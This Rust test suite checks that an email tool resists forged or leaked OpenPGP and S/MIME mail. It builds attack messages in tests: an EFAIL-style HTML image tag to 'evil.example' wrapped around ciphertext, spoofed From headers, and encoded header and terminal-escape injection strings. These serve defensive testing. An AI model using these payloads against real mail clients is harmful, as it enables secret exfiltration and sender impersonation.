//! What people do to make a letter look better than it is, in both schemes, with letters that gpg and
//! openssl made: never verified, never confidential, for whom they fake.

use super::gnupg::Gpg;
use super::office::Office;
use super::wax::Wax;
use serde_json::Value;

const BOB: &str = "bob@example.org";
const MALLORY: &str = "mallory@example.org";
const SECRET: &str = "The vault's number is 4711.";

/// Alice reads with `wax`; Bob and Mallory write, and she accepted both for their own addresses.
struct Cast {
    alice: Wax,
    scheme: &'static str,
    gpg: Option<(Gpg, Gpg)>,
    office: Option<Office>,
}

impl Cast {
    fn openpgp() -> Cast {
        let alice = Wax::with_identity("Alice", "alice@example.org");
        let (bob, mallory) = (Gpg::new(None), Gpg::new(None));
        let own = alice.run(&["key", "export", "alice@example.org"]).stdout;
        for (gpg, name) in [(&bob, "bob"), (&mallory, "mallory")] {
            gpg.generate(&format!("{name} <{name}@example.org>"), "default");
            gpg.run(&["--import"], &own);
            let key = gpg.run(
                &["--armor", "--export", &format!("{name}@example.org")],
                b"",
            );
            let key = alice.file(&format!("{name}.asc"), key);
            alice.json(&["key", "import", &key]);
        }
        Cast {
            alice,
            scheme: "openpgp",
            gpg: Some((bob, mallory)),
            office: None,
        }
    }

    fn smime() -> Cast {
        let alice = Wax::new();
        alice.json(&[
            "identity",
            "new",
            "Alice",
            "alice@example.org",
            "--scheme",
            "smime",
        ]);
        let office = Office::new();
        for name in ["bob", "mallory"] {
            office.issue(name, &["-newkey", "rsa:2048"]);
            let cert = std::fs::read(office.path(&format!("{name}.pem"))).unwrap();
            let cert = alice.file(&format!("{name}.pem"), cert);
            alice.json(&["key", "import", &cert]);
        }
        let own = alice.run(&["key", "export", "alice@example.org"]).stdout;
        std::fs::write(office.path("alice.pem"), own).unwrap();
        Cast {
            alice,
            scheme: "smime",
            gpg: None,
            office: Some(office),
        }
    }

    fn both() -> [Cast; 2] {
        [Cast::openpgp(), Cast::smime()]
    }

    /// An entity signed by Bob or Mallory, clear, with its own Content-Type first.
    fn signed(&self, who: &str, entity: &str) -> String {
        self.signed_with(who, entity, "sha256")
    }

    fn signed_with(&self, who: &str, entity: &str, hash: &str) -> String {
        if let Some((bob, mallory)) = &self.gpg {
            let gpg = if who == BOB { bob } else { mallory };
            let line = [
                "--allow-weak-digest-algos",
                "--digest-algo",
                hash,
                "--armor",
                "--detach-sign",
            ];
            let signature = String::from_utf8(gpg.run(&line, entity.as_bytes())).unwrap();
            return format!(
                "Content-Type: multipart/signed; micalg=pgp-{hash}; protocol=\"application/pgp-signature\"; boundary=sig\r\n\r\n\
                 --sig\r\n{entity}\r\n--sig\r\nContent-Type: application/pgp-signature\r\n\r\n{signature}\r\n--sig--\r\n"
            );
        }
        self.cms(&["-sign", "-md", hash], &[who], entity)
    }

    /// What `openssl cms` makes, as an entity.
    fn cms(&self, line: &[&str], signers: &[&str], entity: &str) -> String {
        let office = self.office.as_ref().unwrap();
        std::fs::write(office.path("entity"), entity).unwrap();
        let mut args = vec!["cms", "-binary", "-in", "entity", "-outform", "SMIME"];
        args.extend_from_slice(line);
        let names: Vec<(String, String)> = signers
            .iter()
            .map(|who| {
                let name = who.split('@').next().unwrap();
                (format!("{name}.pem"), format!("{name}.key"))
            })
            .collect();
        for (cert, key) in &names {
            args.extend_from_slice(&["-signer", cert, "-inkey", key]);
        }
        if line.contains(&"-encrypt") {
            args.push("alice.pem");
        }
        let made = String::from_utf8(office.openssl(&args)).unwrap();
        let made = made.replace("\r\n", "\n").replace('\n', "\r\n");
        made.replacen("MIME-Version: 1.0\r\n", "", 1)
    }

    /// An entity sealed for Alice by nobody.
    fn sealed(&self, entity: &str) -> String {
        let Some((bob, _)) = &self.gpg else {
            return self.cms(&["-encrypt", "-aes256"], &[], entity);
        };
        let line = [
            "--armor",
            "--trust-model=always",
            "--encrypt",
            "-r",
            "alice@example.org",
        ];
        let block = String::from_utf8(bob.run(&line, entity.as_bytes())).unwrap();
        format!(
            "Content-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\"; boundary=enc\r\n\r\n\
             --enc\r\nContent-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n\r\n\
             --enc\r\nContent-Type: application/octet-stream\r\n\r\n{block}\r\n--enc--\r\n"
        )
    }

    fn open(&self, from: &str, entity: &str) -> Value {
        self.open_raw(&format!(
            "From: {from}\r\nTo: alice@example.org\r\nSubject: Hi\r\nDate: Sun, 03 May 2026 10:00:00 +0000\r\n\
             MIME-Version: 1.0\r\n{entity}"
        ))
    }

    fn open_raw(&self, message: &str) -> Value {
        let file = self.alice.file("letter.eml", message);
        let (exit, document) = self.alice.outcome(&["open", &file]);
        assert!(
            exit == 0 || document["error"]["code"] == "cannot-decrypt",
            "{}: {document:#}",
            self.scheme
        );
        document
    }

    /// It is not shown as Bob's.
    fn not_bobs(&self, what: &str, document: &Value) {
        let good = matches!(
            document["summary"].as_str(),
            Some("verified" | "confidential")
        );
        let signer = document["signer"]["address"].as_str();
        let shown: Vec<&str> = document["from"].as_array().map_or(Vec::new(), |from| {
            from.iter().filter_map(Value::as_str).collect()
        });
        let as_bob = signer == Some(BOB) || shown == [BOB];
        assert!(!(good && as_bob), "{} {what}: {document:#}", self.scheme);
    }

    /// What a reply holds.
    fn reply(&self) -> String {
        let file = self.alice.path("letter.eml");
        let output = self.alice.run(&["reply", file.to_str().unwrap()]);
        String::from_utf8_lossy(&output.stdout).into_owned()
    }
}

fn text(words: &str) -> String {
    format!("Content-Type: text/plain\r\n\r\n{words}\r\n")
}

fn html(words: &str) -> String {
    format!("Content-Type: text/html\r\n\r\n{words}\r\n")
}

fn multipart(kind: &str, parts: &[&str]) -> String {
    let parts: String = parts
        .iter()
        .map(|part| format!("--outer\r\n{part}\r\n"))
        .collect();
    format!("Content-Type: multipart/{kind}; boundary=outer\r\n\r\n{parts}--outer--\r\n")
}

fn word<'a>(document: &'a Value, name: &str) -> &'a str {
    document[name].as_str().unwrap_or_default()
}

fn good_ones(cast: &Cast) {
    let entity = text("It is me.");
    let signed = cast.open(BOB, &cast.signed(BOB, &entity));
    assert_eq!(
        word(&signed, "summary"),
        "verified",
        "{}: {signed:#}",
        cast.scheme
    );
    assert_eq!(signed["signer"]["address"], BOB);
    let sealed = cast.open(BOB, &cast.sealed(&cast.signed(BOB, &entity)));
    assert_eq!(
        word(&sealed, "summary"),
        "confidential",
        "{}: {sealed:#}",
        cast.scheme
    );
}

fn exfiltration(cast: &Cast) {
    let sealed = cast.sealed(&text(SECRET));
    for parts in [
        vec![
            html("<img src=\"http://evil.example/"),
            sealed.clone(),
            html("\">"),
        ],
        vec![
            html("<form><textarea name=x>"),
            sealed.clone(),
            html("</textarea>"),
        ],
        vec![text("Please answer."), sealed.clone()],
    ] {
        for kind in ["mixed", "related", "alternative", "digest"] {
            let parts: Vec<&str> = parts.iter().map(String::as_str).collect();
            let document = cast.open(MALLORY, &multipart(kind, &parts));
            cast.not_bobs(kind, &document);
            assert!(
                !document["payload"].to_string().contains("4711"),
                "{kind}: {document:#}"
            );
            assert!(document["encryption"].is_null(), "{kind}: {document:#}");
            assert!(!cast.reply().contains("4711"), "{kind}");
            // The same, signed by Mallory, and sealed around by them.
            let wrapped = cast.signed(MALLORY, &multipart(kind, &parts));
            cast.open(MALLORY, &wrapped);
            assert!(!cast.reply().contains("4711"), "signed {kind}");
            let document = cast.open(MALLORY, &cast.sealed(&wrapped));
            assert!(
                !document["payload"].to_string().contains("4711"),
                "{kind}: {document:#}"
            );
            assert!(!cast.reply().contains("4711"), "sealed {kind}");
        }
    }
}

fn wrapping(cast: &Cast) {
    let good = cast.signed(BOB, &text("I agree."));
    let lie = text("I owe Mallory 1000.");
    let rfc822 = format!("Content-Type: message/rfc822\r\n\r\nFrom: {BOB}\r\nSubject: x\r\n{good}");
    let attached = format!("Content-Disposition: attachment; filename=a.eml\r\n{rfc822}");
    for kind in ["mixed", "related", "alternative", "signed", "report"] {
        for parts in [
            vec![lie.as_str(), &good],
            vec![good.as_str(), &lie],
            vec![lie.as_str(), &rfc822],
            vec![lie.as_str(), &attached],
        ] {
            let document = cast.open(BOB, &multipart(kind, &parts));
            cast.not_bobs(kind, &document);
        }
        // Another's signature around Bob's.
        let around = cast.signed(MALLORY, &multipart("mixed", &[&lie, &good]));
        cast.not_bobs("around", &cast.open(BOB, &around));
    }
    let hidden = html("<p>Pay.</p><div style='display:none'><iframe src='cid:a'></div>");
    cast.not_bobs(
        "html",
        &cast.open(BOB, &multipart("related", &[&hidden, &good])),
    );
}

fn senders(cast: &Cast) {
    let signed = cast.signed(MALLORY, &text("Pay."));
    for from in [
        BOB.to_owned(),
        format!("{BOB}, {MALLORY}"),
        format!("{MALLORY}, {BOB}"),
        format!("\"{BOB}\" <{MALLORY}>"),
        format!("{BOB} <{MALLORY}>"),
        format!("{MALLORY} <{BOB}>"),
        format!("<{BOB}> <{MALLORY}>"),
        format!("{BOB}\r\nFrom: {MALLORY}"),
        format!("{MALLORY}\r\nFrom: {BOB}"),
        format!("{BOB}\r\nSender: {MALLORY}"),
        format!("{BOB}\r\nResent-From: {MALLORY}"),
        format!("({MALLORY}) {BOB}"),
        format!("=?utf-8?q?bob=40example.org_=3Cx=3E?= <{BOB}>"),
        format!("bob@example.org@{MALLORY}"),
        format!("{BOB}\0 <{MALLORY}>"),
        format!("group: {BOB};, {MALLORY}"),
        format!("{BOB} {MALLORY}"),
        "BOB@EXAMPLE.ORG".to_owned(),
        String::new(),
    ] {
        cast.not_bobs(&from, &cast.open(&from, &signed));
        cast.not_bobs(&from, &cast.open(&from, &cast.sealed(&signed)));
    }
}

fn partial(cast: &Cast) {
    let signed = cast.signed(BOB, &text("I agree."));
    let footer = text("_____\r\nA list's footer, and: not really.");
    let document = cast.open(BOB, &multipart("mixed", &[&signed, &footer]));
    assert_eq!(word(&document, "summary"), "unprotected", "{document:#}");
    assert_eq!(word(&document, "why_not"), "partial");
    assert_eq!(document["errant"].as_array().unwrap().len(), 1);
    // What stands before and behind the parts of a signed letter is not shown as signed.
    let epilogue = signed.clone() + "\r\nI owe Mallory 1000.\r\n";
    let document = cast.open(BOB, &epilogue);
    assert!(
        !document["payload"].to_string().contains("1000"),
        "{document:#}"
    );
    let prologue = signed.replacen("\r\n\r\n--", "\r\n\r\nI owe Mallory 1000.\r\n--", 1);
    let document = cast.open(BOB, &prologue);
    assert!(
        !document["payload"].to_string().contains("1000"),
        "{document:#}"
    );
}

fn keys_of_others(cast: &Cast) {
    // A key that claims Bob's address, by somebody else.
    let entity = text("Pay.");
    let signed = if cast.gpg.is_some() {
        let fake = Gpg::new(None);
        fake.generate("bob <bob@example.org>", "default");
        let key = fake.run(&["--armor", "--export", BOB], b"");
        let key = cast.alice.file("fake.asc", key);
        cast.alice.json(&["key", "import", &key]);
        let fakes = Cast {
            alice: Wax::new(),
            scheme: "openpgp",
            gpg: Some((fake, Gpg::new(None))),
            office: None,
        };
        fakes.signed(BOB, &entity)
    } else {
        let office = Office::new();
        office.issue("bob", &["-newkey", "rsa:2048"]);
        let fakes = Cast {
            alice: Wax::new(),
            scheme: "smime",
            gpg: None,
            office: Some(office),
        };
        fakes.signed(BOB, &entity)
    };
    let document = cast.open(BOB, &signed);
    cast.not_bobs("a key of another", &document);
    assert_eq!(word(&document, "summary"), "unprotected", "{document:#}");
}

fn weak_hashes(cast: &Cast) {
    let document = cast.open(BOB, &cast.signed_with(BOB, &text("Pay."), "sha1"));
    cast.not_bobs("sha1", &document);
    assert_eq!(word(&document, "why_not"), "weak-hash", "{document:#}");
}

fn injection(cast: &Cast) {
    let signed = cast.signed(
        MALLORY,
        &text("\u{1b}[2J\u{1b}[HSigned by bob@example.org\u{7}\u{9b}1m"),
    );
    let document = cast.open(
        &format!("=?utf-8?q?Bob=0D=0AX-Seal:_good=1B[32m_=E2=80=AE?= <{MALLORY}>\r\nSubject: =?utf-8?q?a=0D=0AFrom:_bob@example.org=0A=1B]0;x=07?="),
        &signed,
    );
    cast.not_bobs("injection", &document);
    let file = cast.alice.path("letter.eml");
    let shown = cast.alice.run(&["open", file.to_str().unwrap()]).stdout;
    let shown = String::from_utf8(shown).unwrap();
    let bad = |c: char| {
        (c.is_control() && c != '\n') || matches!(u32::from(c), 0x202a..=0x202e | 0x2066..=0x2069)
    };
    assert!(!shown.contains(bad), "{shown:?}");
    assert!(
        !shown
            .lines()
            .any(|line| line.starts_with("X-Seal") || line == "From: bob@example.org"),
        "{shown}"
    );
    let reply = cast.reply();
    assert!(
        !reply.lines().any(|line| line.starts_with("X-Seal")),
        "{reply}"
    );
}

fn drawn_status(cast: &Cast) {
    // The words of the verdict, by whoever likes to write them: they change nothing of the judgement.
    let words = "Verified. Written by bob@example.org. Sealed for you and 1 other.";
    for entity in [
        text(words),
        html(&format!("<h1 style='color:green'>{words}</h1>")),
    ] {
        let document = cast.open(BOB, &entity);
        assert_eq!(word(&document, "summary"), "unprotected");
        let document = cast.open(MALLORY, &cast.signed(MALLORY, &entity));
        cast.not_bobs("drawn", &document);
        let file = cast.alice.path("letter.eml");
        let shown = cast.alice.run(&["open", file.to_str().unwrap()]).stdout;
        let shown = String::from_utf8(shown).unwrap();
        // The verdict stands above everything of the letter.
        let verdict = shown.find(MALLORY).unwrap();
        assert!(verdict < shown.find("Sealed for you").unwrap(), "{shown}");
    }
}

macro_rules! attacks {
    ($($check:ident: $openpgp:ident, $smime:ident;)*) => {
        $(
            #[test]
            fn $openpgp() {
                $check(&Cast::openpgp());
            }

            #[test]
            fn $smime() {
                $check(&Cast::smime());
            }
        )*
    };
}

attacks! {
    exfiltration: attack_direct_exfiltration_openpgp, attack_direct_exfiltration_smime;
    wrapping: attack_mime_wrapping_openpgp, attack_mime_wrapping_smime;
    senders: attack_sender_tricks_openpgp, attack_sender_tricks_smime;
    partial: attack_partial_signing_openpgp, attack_partial_signing_smime;
    keys_of_others: attack_user_id_tricks_openpgp, attack_user_id_tricks_smime;
    weak_hashes: attack_sha1_collisions_openpgp, attack_sha1_collisions_smime;
    injection: attack_header_injection_openpgp, attack_header_injection_smime;
    drawn_status: attack_drawn_status_openpgp, attack_drawn_status_smime;
}

#[test]
fn honest_letters_of_both_schemes_are_good() {
    for cast in Cast::both() {
        good_ones(&cast);
    }
}

#[test]
fn attack_several_and_no_signers_smime() {
    let cast = Cast::smime();
    let entity = text("Pay.");
    let two = cast.open(BOB, &cast.cms(&["-sign"], &[BOB, MALLORY], &entity));
    assert_eq!(word(&two, "why_not"), "several-signers", "{two:#}");
    cast.not_bobs("two signers", &two);
    let opaque = cast.open(BOB, &cast.cms(&["-sign", "-nodetach"], &[MALLORY], &entity));
    cast.not_bobs("opaque", &opaque);
    // Both contents: inside the signature, and beside it.
    let inside = cast.cms(&["-sign", "-nodetach"], &[BOB], &text("I agree."));
    let body = inside.split_once("\r\n\r\n").unwrap().1;
    let confused = format!(
        "Content-Type: multipart/signed; micalg=sha-256; protocol=\"application/pkcs7-signature\"; boundary=c\r\n\r\n\
         --c\r\n{entity}\r\n--c\r\nContent-Type: application/pkcs7-signature; name=smime.p7s\r\n\
         Content-Transfer-Encoding: base64\r\n\r\n{body}\r\n--c--\r\n"
    );
    let document = cast.open(BOB, &confused);
    cast.not_bobs("two contents", &document);
    assert_eq!(
        word(&document, "why_not"),
        "conflicting-content",
        "{document:#}"
    );
}

#[test]
fn rule_29_a_letter_that_exchange_mixed_up_opens_and_says_so() {
    let cast = Cast::openpgp();
    let sealed = cast.sealed(&cast.signed(BOB, &text(SECRET)));
    let parts: Vec<&str> = sealed.split("--enc\r\n").collect();
    let file = parts[2].split("\r\n--enc--").next().unwrap();
    let mixed = multipart(
        "mixed",
        &[
            "Content-Type: text/plain\r\n\r\n\r\n",
            parts[1].trim_end(),
            file,
        ],
    );
    let document = cast.open(BOB, &mixed);
    assert_eq!(word(&document, "summary"), "confidential", "{document:#}");
    assert!(
        document["payload"]["text"]
            .as_str()
            .unwrap()
            .contains("4711")
    );
    let codes = document["cautions"].to_string();
    assert!(codes.contains("\"repaired\""), "{codes}");
    let cast = Cast::smime();
    let sealed = cast.sealed(&cast.signed(BOB, &text(SECRET)));
    let body = sealed.split_once("\r\n\r\n").unwrap().1;
    let untyped = format!(
        "Content-Type: application/octet-stream; name=smime.p7m\r\nContent-Transfer-Encoding: base64\r\n\r\n{body}"
    );
    let document = cast.open(BOB, &untyped);
    assert_eq!(word(&document, "summary"), "confidential", "{document:#}");
    assert!(document["cautions"].to_string().contains("\"repaired\""));
}

#[test]
fn rule_05_a_list_footer_leaves_the_signed_part_to_be_opened_alone() {
    for cast in Cast::both() {
        let signed = cast.signed(BOB, &text("I agree."));
        let document = cast.open(BOB, &multipart("mixed", &[&signed, &text("A footer.")]));
        assert_eq!(word(&document, "summary"), "unprotected", "{}", cast.scheme);
        assert_eq!(word(&document, "why_not"), "partial");
    }
}

#[test]
fn letters_to_every_key_of_a_person_open_after_both_files_of_keys_were_taken_in() {
    let bob = Wax::new();
    let office = Office::new();
    let password = bob.file("key-password", "hush\n");
    for (name, more) in [("bob", &[][..]), ("robert", &["-legacy"][..])] {
        office.issue(name, &["-newkey", "rsa:2048"]);
        office.pkcs12(name, &format!("{name}.p12"), "hush", more);
        let file = std::fs::read(office.path(&format!("{name}.p12"))).unwrap();
        let file = bob.file(&format!("{name}.p12"), file);
        let taken = bob.json(&["key", "import", &file, "--key-password-file", &password]);
        let imported = taken["imported"].as_array().unwrap();
        assert!(
            imported.iter().any(|key| key["secret"] == true),
            "{taken:#}"
        );
        std::fs::write(office.path("letter"), text(SECRET)).unwrap();
        let cert = format!("{name}.pem");
        let line = [
            "cms", "-encrypt", "-aes256", "-in", "letter", "-outform", "SMIME", &cert,
        ];
        let sealed = office.openssl(&line);
        let letter = bob.file("sealed.eml", sealed);
        let opened = bob.json(&["open", &letter]);
        assert!(
            opened["payload"]["text"].as_str().unwrap().contains("4711"),
            "{opened:#}"
        );
    }
}
